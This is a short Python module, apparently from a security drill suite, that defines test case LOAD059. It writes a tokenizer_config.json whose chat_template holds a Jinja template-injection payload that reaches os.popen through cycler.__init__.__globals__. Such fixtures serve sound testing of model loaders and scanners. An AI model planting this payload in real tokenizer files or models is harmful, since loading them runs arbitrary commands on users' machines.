"""A chat template that reaches Python: the template of a tokenizer walks from a helper to the os module."""

from __future__ import annotations

import json
from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.scan.payload import command, written


def plant(folder: Path) -> Path:
    """Write the file."""
    data = json.dumps(
        {"chat_template": f"{{{{ cycler.__init__.__globals__.os.popen({command(folder)!r}) }}}}"}
    ).encode()
    return written(folder / "tokenizer_config.json", data)


ATTACK = Attack(
    "a chat template that reaches Python",
    "the template of a tokenizer walks from a helper to the os module",
    "LOAD059",
    plant,
    (8,),
)
